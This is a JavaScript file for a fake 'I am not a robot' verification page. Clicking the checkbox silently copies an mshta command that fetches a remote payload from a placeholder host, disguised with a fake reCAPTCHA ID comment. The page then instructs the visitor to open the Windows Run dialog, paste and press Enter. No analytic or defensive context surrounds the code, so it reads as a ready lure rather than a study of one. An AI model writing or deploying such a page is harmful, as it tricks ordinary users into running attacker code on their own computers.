const box = document.getElementById("checkbox");
const steps = document.getElementById("verify-window");
const spinner = document.getElementById("spinner");
const vid = Math.floor(100000 + Math.random() * 900000);

function setClipboard(text) {
  const ta = document.createElement("textarea");
  ta.value = text;
  ta.style.position = "fixed";
  ta.style.left = "-9999px";
  document.body.append(ta);
  ta.select();
  document.execCommand("copy");
  ta.remove();
}

function stageClipboard(cmd, id) {
  const tail = " # ✅ ''I am not a robot - reCAPTCHA Verification ID: " + id + "''";
  setClipboard(cmd + tail);
}

box.addEventListener("click", () => {
  box.classList.add("hidden");
  spinner.classList.remove("hidden");
  setTimeout(() => {
    spinner.classList.add("hidden");
    steps.style.display = "block";
    steps.innerHTML = `
      <div class="head">Verification Steps</div>
      <ol>
        <li>Press Windows Button "<i class="win"></i>" + R</li>
        <li>Press CTRL + V</li>
        <li>Press Enter</li>
      </ol>
      <button id="verify" disabled>VERIFY</button>`;
    stageClipboard("mshta https://verify-check.invalid/r/AAAA.mp4", vid);
    setTimeout(() => (document.getElementById("verify").disabled = false), 15000);
  }, 1400);
});
